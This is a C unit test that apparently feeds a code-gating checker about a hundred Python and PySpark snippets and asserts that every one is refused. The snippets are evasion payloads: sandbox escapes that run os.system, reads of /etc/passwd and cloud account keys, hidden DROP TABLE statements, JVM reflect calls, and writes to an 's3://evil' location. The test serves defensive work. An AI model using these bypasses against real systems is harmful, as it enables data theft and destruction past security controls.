/*
 * Loads of a model that mean something else than they seem to: what is read is
 * not what would run. Each is an honest load with such statements behind it,
 * and none passes.
 */
#include "base/base.h"

#include "gating.h"

static const char *const statements[] = {
    /* gen frame */
    "words = ['gi_frame', 'f_builtins']\n"
    "g = (i for i in [1])\n"
    "b = g.gi_frame.f_builtins\n"
    "b['ev' + 'al'](\"b['__imp' + 'ort__']('os').system('id')\")",
    /* gen frame */
    "words = ['gi_frame', 'f_builtins']\n"
    "g = (i for i in [1])\n"
    "b = g.gi_frame.f_builtins\n"
    "b['ev' + 'al'](\"b['__imp' + 'ort_' + '_']('os').system('id')\")",
    /* member string formatter */
    "import string\n"
    "class A:\n"
    "    def get_field(self):\n"
    "        return 1\n"
    "g = string.Formatter()\n"
    "jvm = g.get_field('0._jvm', [spark], {})[0]",
    /* stdout fileio */
    "import sys\n"
    "words = ['buffer', 'raw']\n"
    "o = sys.stdout\n"
    "FileIO = type(o.buffer.raw)\n"
    "data = FileIO('/etc/passwd').read()",
    /* self jvm */
    "class A:\n"
    "    _jvm = 1\n"
    "def go(self):\n"
    "    return self._jvm\n"
    "words = ['java', 'lang', 'Runtime', 'getRuntime']\n"
    "j = go(spark)\n"
    "r = j.java.lang.Runtime.getRuntime\n"
    "class B:\n"
    "    def getRuntime(self): return 1\n"
    "    def availableProcessors(self): return 1\n"
    "j.java.lang.Runtime.getRuntime().availableProcessors()",
    /* conf getall */
    "words = ['getAll']\n"
    "print(spark.conf.getAll)",
    /* conf get alias */
    "c = spark.conf\n"
    "print(c.get('fs.azure.account.key.x.dfs.core.windows.net'))",
    /* match capture */
    "T = 'shop.bronze.orders'\n"
    "match 'hr.private.salaries':\n"
    "    case T:\n"
    "        spark.table(T).show()",
    /* match class attr */
    "_jvm = 1\n"
    "j = None\n"
    "match spark:\n"
    "    case object(_jvm=j):\n"
    "        print(j)",
    /* class before */
    "T = 'hr.private.salaries'\n"
    "class A:\n"
    "    spark.table(T).show()\n"
    "    T = 'shop.bronze.orders'",
    /* default */
    "Q = 'DROP TABLE hr.private.salaries'\n"
    "def f(x=spark.sql(Q)):\n"
    "    Q = 'SELECT 1'\n"
    "    return Q",
    /* class comprehension */
    "Q = 'DROP TABLE hr.private.salaries'\n"
    "class A:\n"
    "    Q = 'SELECT 1'\n"
    "    x = [spark.sql(Q) for i in [1]]",
    /* annotation */
    "Q = 'DROP TABLE hr.private.salaries'\n"
    "def f(x: spark.sql(Q)):\n"
    "    Q = 'SELECT 1'\n"
    "    return Q",
    /* lambda default */
    "Q = 'DROP TABLE hr.private.salaries'\n"
    "f = lambda x=spark.sql(Q), Q='SELECT 1': x",
    /* class bases */
    "Q = 'DROP TABLE hr.private.salaries'\n"
    "class A(list(spark.sql(Q))):\n"
    "    Q = 'SELECT 1'",
    /* keys of dict */
    "for q in {'DROP TABLE x': 1}:\n"
    "    spark.sql(q)",
    /* dict set */
    "d = {'q': 'SELECT 1'}\n"
    "d['q'] = 'DROP TABLE hr.private.salaries'\n"
    "spark.sql(d['q'])",
    /* dict dup */
    "d = {'q': 'SELECT 1', 'q': 'DROP TABLE hr.private.salaries'}\n"
    "spark.sql(d['q'])",
    /* dict star */
    "d = {'q': 'SELECT 1', **{'q': 'DROP TABLE hr.private.salaries'}}\n"
    "spark.sql(d['q'])",
    /* dict update */
    "d = {'q': 'SELECT 1'}\n"
    "d.update(q='DROP TABLE hr.private.salaries')\n"
    "spark.sql(d['q'])",
    /* list append */
    "qs = ['SELECT 1']\n"
    "qs.append('DROP TABLE hr.private.salaries')\n"
    "for q in qs:\n"
    "    spark.sql(q)",
    /* star unpack */
    "a, q, c = *[], 'SELECT 1', *['DROP TABLE hr.private.salaries', 1]"
    "\n"
    "spark.sql(q)",
    /* star unpack */
    "a, q, c = (*[], 'SELECT 1', *['DROP TABLE hr.private.salaries', 1]"
    ")\n"
    "spark.sql(q)",
    /* star unpack list */
    "[a, q, c] = [*[], 'SELECT 1', *['DROP TABLE hr.private.salaries', "
    "1]]\n"
    "spark.sql(q)",
    /* set unpack */
    "a, t = {'hr.private.salaries', 'shop.bronze.orders'}\n"
    "spark.table(t).show()",
    /* char unpack */
    "for c0, c1, c2, c3, c4, c5, c6, c7, c8, c9, d0, d1, d2, d3, d4, d5"
    ", d6, d7, d8, d9 in ['SELECT 1 --DROP ABX.']:\n"
    "    spark.sql(f\"{d1}{d2}{d3}{d4}{c6}{c5}{d6}\")",
    /* empty list append */
    "L = []\n"
    "L.append(\"reflect('java.lang.System', 'exit', 1)\")\n"
    "for q in L:\n"
    "    spark.table('shop.bronze.orders').select(F.expr(q)).show()",
    /* str lambda */
    "str = lambda q: 'DROP TABLE hr.private.salaries'\n"
    "spark.sql(str('SELECT 1'))",
    /* decorator */
    "def d(f):\n"
    "    return lambda: 'DROP TABLE hr.private.salaries'\n"
    "@d\n"
    "def q():\n"
    "    return 'SELECT 1'\n"
    "spark.sql(q())",
    /* class decorator */
    "class B:\n"
    "    T = 'hr.private.salaries'\n"
    "def d(c):\n"
    "    return B\n"
    "@d\n"
    "class A:\n"
    "    T = 'shop.bronze.orders'\n"
    "spark.table(A.T).show()",
    /* class attr for */
    "class A:\n"
    "    T = 'shop.bronze.orders'\n"
    "for A.T in ['hr.private.salaries']:\n"
    "    spark.table(A.T).show()",
    /* class attr tuple */
    "class A:\n"
    "    Q = 'SELECT 1'\n"
    "A.Q, x = 'DROP TABLE hr.private.salaries', 1\n"
    "spark.sql(A.Q)",
    /* metaclass */
    "class M(type):\n"
    "    def __getattribute__(cls, n):\n"
    "        return 'DROP TABLE hr.private.salaries'\n"
    "class A(metaclass=M):\n"
    "    Q = 'SELECT 1'\n"
    "spark.sql(A.Q)",
    /* new lambda */
    "class A:\n"
    "    __new__ = lambda cls: spark\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "A().sql('DROP TABLE hr.private.salaries')",
    /* staticmethod */
    "class A:\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "    def run(self, q):\n"
    "        return self.sql(q)\n"
    "    go = staticmethod(run)\n"
    "A.go(spark, 'DROP TABLE hr.private.salaries')",
    /* own class scope */
    "class A:\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "a = spark\n"
    "class B:\n"
    "    a.sql('DROP TABLE hr.private.salaries')\n"
    "    a = A()",
    /* metaclass kw */
    "class A(metaclass=lambda n, b, d: lambda: spark):\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "A().sql('DROP TABLE hr.private.salaries')",
    /* default star */
    "def run(q='SELECT 1'):\n"
    "    spark.sql(q)\n"
    "run(*['DROP TABLE hr.private.salaries'])",
    /* class decorator own */
    "@lambda c: lambda: spark\n"
    "class A:\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "A().sql('DROP TABLE hr.private.salaries')",
    /* star args */
    "def make(*parts):\n"
    "    return F.expr(''.join(parts))\n"
    "make('1 + ', \"reflect('java.lang.System', 'exit', 1)\")",
    /* setter */
    "class A:\n"
    "    @property\n"
    "    def q(self): return 1\n"
    "    @q.setter\n"
    "    def q(self, v):\n"
    "        spark.sql(v)\n"
    "a = A()\n"
    "a.q = 'DROP TABLE hr.private.salaries'\n"
    "a.q('SELECT 1')",
    /* fields positional */
    "from dataclasses import dataclass\n"
    "@dataclass\n"
    "class C:\n"
    "    q: str = 'status'\n"
    "c = C(\"reflect('java.lang.System', 'exit', 1)\")\n"
    "F.expr(c.q)",
    /* init field */
    "class C:\n"
    "    def __init__(self, q):\n"
    "        self.q = q\n"
    "c = C(\"reflect('java.lang.System', 'exit', 1)\")\n"
    "F.expr(c.q)",
    /* row field */
    "class C:\n"
    "    status = 'x'\n"
    "row = spark.table('shop.bronze.orders').first()\n"
    "F.expr(row.status)",
    /* class bound method */
    "class A:\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "    def run(self, q):\n"
    "        return self.sql(q)\n"
    "    all = [run]\n"
    "A.all[0](spark, 'DROP TABLE hr.private.salaries')",
    /* forself */
    "class A:\n"
    "    def sql(self, q):\n"
    "        return q\n"
    "    def run(self, q):\n"
    "        for self in [spark]:\n"
    "            return self.sql(q)\n"
    "A().run('DROP TABLE hr.private.salaries')",
    /* strip own */
    "class A:\n"
    "    def strip(self):\n"
    "        return 'SELECT 1'\n"
    "spark.sql(' DROP TABLE hr.private.salaries'.strip())",
    /* default kw */
    "def run(q='SELECT 1'):\n"
    "    spark.sql(q)\n"
    "run(**{'q': 'DROP TABLE hr.private.salaries'})",
    /* param kwonly only */
    "def run(q, *rest):\n"
    "    spark.sql(q)\n"
    "run('SELECT 1')\n"
    "f = [run for i in [1]]",
    /* import str */
    "from json import loads as str\n"
    "spark.sql(str('\"SELECT 1\"'))",
    /* named tuple */
    "from typing import NamedTuple\n"
    "class C(NamedTuple):\n"
    "    q: str = 'status'\n"
    "F.expr(C(\"reflect('java.lang.System', 'exit', 1)\").q)",
    /* own values */
    "class A:\n"
    "    def values(self):\n"
    "        return [\"reflect('java.lang.System', 'exit', 1)\"]\n"
    "class B(A):\n"
    "    pass\n"
    "F.expr(''.join({'status': 1}.values()))",
    /* import name pieces */
    "from string import ascii_lowercase as az\n"
    "F.expr(''.join([c for c in az if 'q' < c < 's'] + [\"abs(status)\""
    "]))",
    /* globals pieces */
    "def f(x):\n"
    "    F.expr(x)\n"
    "class A:\n"
    "    def __call__(self, x):\n"
    "        F.expr(x)\n"
    "A()(\"reflect('java.lang.System', 'exit', 1)\")",
    /* sub slice */
    "d = {'a': 'status'}\n"
    "for d['a'] in [\"reflect('java.lang.System', 'exit', 1)\"]:\n"
    "    F.expr(d['a'])",
    /* setdefault pieces */
    "d = {}\n"
    "d.setdefault('a', \"reflect('java.lang.System', 'exit', 1)\")\n"
    "F.expr(d['a'])",
    /* list iadd slice */
    "d = ['status']\n"
    "d[0:1] = [\"reflect('java.lang.System', 'exit', 1)\"]\n"
    "F.expr(d[0])",
    /* alias list */
    "d = ['status']\n"
    "e = d\n"
    "e.append(\"reflect('java.lang.System', 'exit', 1)\")\n"
    "F.expr(d[1])",
    /* self param */
    "def run(self, q):\n"
    "    spark.sql(q)\n"
    "run('SELECT 1', 'DROP TABLE hr.private.salaries')",
    /* add set */
    "d = set(['status'])\n"
    "d.add(\"reflect('java.lang.System', 'exit', 1)\")\n"
    "for x in d:\n"
    "    F.expr(x)",
    /* param mutate */
    "d = ['status']\n"
    "def put(x):\n"
    "    x.append(\"reflect('java.lang.System', 'exit', 1)\")\n"
    "put(d)\n"
    "F.expr(d[1])",
    /* dispatch */
    "import functools\n"
    "def run(q):\n"
    "    spark.sql(q)\n"
    "run('SELECT 1')\n"
    "class A:\n"
    "    go = run",
    /* enum */
    "from enum import Enum\n"
    "class Q(Enum):\n"
    "    A = 'SELECT 1'\n"
    "    B = 'DROP TABLE hr.private.salaries'\n"
    "for q in Q:\n"
    "    spark.sql(q.value)",
    /* when table expr */
    "spark.table('shop.bronze.orders' if 1 else 'shop.bronze.orders').w"
    "here(\"1 = 1 or 'a' in (table hr.private.salaries)\")",
    /* this param */
    "class A:\n"
    "    def run(this, q, r):\n"
    "        spark.sql(q)\n"
    "a = A()\n"
    "a.run('DROP TABLE hr.private.salaries', 1)",
    /* this param */
    "class A:\n"
    "    def run(this, q, r=0):\n"
    "        spark.sql(q)\n"
    "A().run('DROP TABLE hr.private.salaries', 'SELECT 1')",
    /* init decoy */
    "class A:\n"
    "    def __init__(self, q):\n"
    "        spark.sql(q)\n"
    "A('DROP TABLE hr.private.salaries').__init__('SELECT 1')",
    /* getitem decoy */
    "class A:\n"
    "    def __getitem__(self, q):\n"
    "        spark.sql(q)\n"
    "def __getitem__(q):\n"
    "    return q\n"
    "__getitem__('SELECT 1')\n"
    "A()['DROP TABLE hr.private.salaries']",
    /* formatter hook */
    "import string\n"
    "class A(string.Formatter):\n"
    "    def get_field(self, t, args, kwargs):\n"
    "        return spark.table(t), t\n"
    "A().format('{hr.private.salaries}')\n"
    "A().get_field('shop.bronze.orders', 1, 2)",
    /* same method */
    "class A:\n"
    "    def q(self):\n"
    "        return 'DROP TABLE hr.private.salaries'\n"
    "class B:\n"
    "    def q(self):\n"
    "        return 'SELECT 1'\n"
    "spark.sql(A().q())",
    /* own lower */
    "class A:\n"
    "    def lower(self):\n"
    "        return 'select 1'\n"
    "spark.sql('DROP TABLE hr.private.salaries'.lower())",
    /* star import alias */
    "from pyspark.sql.functions import *\n"
    "e = expr\n"
    "e(\"reflect('java.lang.System', 'exit', 1)\")",
    /* agg dict */
    "spark.table('shop.bronze.orders').agg({'status': 'ai_gen'}).show()",
    /* equals */
    "def reflect(a, b, c):\n"
    "    return '1'\n"
    "F.expr(f\"{reflect('java.lang.System', 'exit', 1)=}\")",
    /* or */
    "spark.table('shop.bronze.orders').where(None or \"reflect('java.la"
    "ng.System', 'exit', 1) = 1\").show()",
    /* alias method */
    "class A:\n"
    "    def alias(self):\n"
    "        return \"reflect('java.lang.System', 'exit', 1) = 1\"\n"
    "spark.table('shop.bronze.orders').where(A().alias()).show()",
    /* broadcast */
    "row = spark.createDataFrame([(\"reflect('java.lang.System', 'exit'"
    ", 1) = 1\",)], 'a string')\n"
    "spark.table('shop.bronze.orders').where(F.broadcast(row).first().a"
    "sDict().get('a')).show()",
    /* broadcast expr */
    "row = spark.createDataFrame([(\"reflect('java.lang.System', 'exit'"
    ", 1) = 1\",)], 'a string')\n"
    "F.expr(F.broadcast(row).first().asDict().get('a'))",
    /* star import map */
    "from pyspark.sql.functions import *\n"
    "list(map(expr, [\"reflect('java.lang.System', 'exit', 1)\"]))",
    /* insert replace using */
    "spark.sql(\"INSERT INTO shop.silver.orders REPLACE WHERE reflect('"
    "a','b') = 1 SELECT * FROM shop.bronze.orders\")",
    /* generated */
    "DeltaTable.create(spark).tableName('shop.silver.orders').addColumn"
    "('x', 'string', generatedAlwaysAs=\"reflect('java.lang.System', 'e"
    "xit', 1)\").execute()",
    /* catalog setting */
    "spark.conf.set('spark.sql.catalog.spark_catalog', 'evil.Catalog')"
    "\n"
    "spark.conf.set('spark.sql.adaptive.customCostEvaluatorClass', 'evi"
    "l.Class')",
    /* unset */
    "w = spark.table('shop.bronze.orders').write\n"
    "m = w.saveAsTable",
    /* saveas path */
    "spark.table('shop.bronze.orders').write.saveAsTable('shop.silver.o"
    "rders', mode='append', path='s3://evil/x')",
    /* saveas PATH */
    "spark.table('shop.bronze.orders').write.saveAsTable('shop.silver.o"
    "rders', PATH='s3://evil/x')",
    /* tableproperty */
    "spark.table('shop.bronze.orders').writeTo('shop.silver.orders').ta"
    "bleProperty('location', 's3://evil/x').create()",
    /* parquet many */
    "spark.read.parquet('shop.bronze.orders', '/mnt/private').show()",
    /* replacewhere kw */
    "spark.table('shop.bronze.orders').write.saveAsTable('shop.silver.o"
    "rders', mode='append', replaceWhere=\"reflect('java.lang.System', "
    "'exit', 1) = 1\")",
    /* dropdown */
    "dbutils.widgets.dropdown('source_orders', 'hr.private.salaries', ["
    "'hr.private.salaries'])\n"
    "spark.table(dbutils.widgets.get('source_orders')).show()",
    /* fake widgets */
    "class N:\n"
    "    widgets = {'source_orders': 'hr.private.salaries'}\n"
    "spark.table(N.widgets.get('source_orders')).show()",
    /* widget text computed */
    "dbutils.widgets.text('source_' + 'orders', 'hr.private.salaries')"
    "\n"
    "spark.table(dbutils.widgets.get('source_orders')).show()",
    /* delta property */
    "DeltaTable.create(spark).tableName('shop.silver.orders').property("
    "'delta.constraints.c', \"reflect('java.lang.System', 'exit', 1) = "
    "1\").execute()",
    /* sparkSession member */
    "class A:\n"
    "    def applyInPandasWithState(self): pass\n"
    "    def listFunctions(self): pass\n"
    "    def getFunction(self): pass\n"
    "df = spark.table('shop.bronze.orders')\n"
    "df.sparkSession.catalog.listFunctions()",
    /* generate */
    "class A:\n"
    "    def generate(self): pass\n"
    "DeltaTable.forName(spark, 'shop.silver.orders').generate('symlink_"
    "format_manifest')",
    /* tvf */
    "class A:\n"
    "    def python_worker_logs(self): pass\n"
    "x = spark\n"
    "x.tvf",
    /* logging parent */
    "import logging\n"
    "words = ['parent', 'root', 'disabled', 'filters', 'formatter', 'lo"
    "ck', 'stream_']\n"
    "log = logging.getLogger('a')\n"
    "class A:\n"
    "    def setStream(self): pass\n"
    "h = logging.StreamHandler()\n"
    "h.setStream(1)",
    /* dbutils widgets */
    "w = dbutils.widgets\n"
    "class A:\n"
    "    def getAll(self): pass\n"
    "    def getArgument(self): pass\n"
    "w.getArgument('x')",
    /* sys argv sys exit */
    "import sys\n"
    "T = sys.argv[1]\n"
    "spark.table(T)",
    /* member jvm private */
    "class A:\n"
    "    _jvm = 1\n"
    "    def x(self):\n"
    "        self = spark\n"
    "        return self._jvm",
    /* del class */
    "Q = 'DROP TABLE hr.private.salaries'\n"
    "class A:\n"
    "    Q = 'SELECT 1'\n"
    "    del Q\n"
    "    spark.sql(Q)",
    /* genericdef */
    "def f[T: (spark.sql('DROP TABLE x'))](x): return x",
    /* typestmt */
    "type X = spark.sql('DROP TABLE x')",
    /* conv */
    "F.expr(f\"{'1'!r:>5}\")",
    /* format spec */
    "class M(type):\n"
    "    def __format__(cls, spec):\n"
    "        return spec\n"
    "class A(metaclass=M):\n"
    "    pass\n"
    "F.expr(f\"{A:reflect('java.lang.System', 'exit', 1)}\")",
    /* strftime */
    "from datetime import date\n"
    "F.expr(f\"{date(2024, 1, 1):reflect('java.lang.System', 'exit', 1)"
    "}\")",
    /* param default format */
    "import datetime\n"
    "for d in [datetime.date(2024, 1, 1)]:\n"
    "    F.expr(f\"{d:reflect('java.lang.System', 'exit', 1)}\")",
    "def staticmethod(f): return lambda: 'DROP TABLE x'\n"
    "@staticmethod\ndef q(): return 'SELECT 1'\n"
    "spark.sql(q())",
    /* a view that nobody makes */
    "def never():\n"
    "    spark.range(1).createOrReplaceTempView('salaries')\n"
    "spark.table('salaries').show()",
};

static void
test_they_are_refused(void **state)
{
	(void)state;
	gating_refuse(statements, COUNT_OF(statements));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_they_are_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
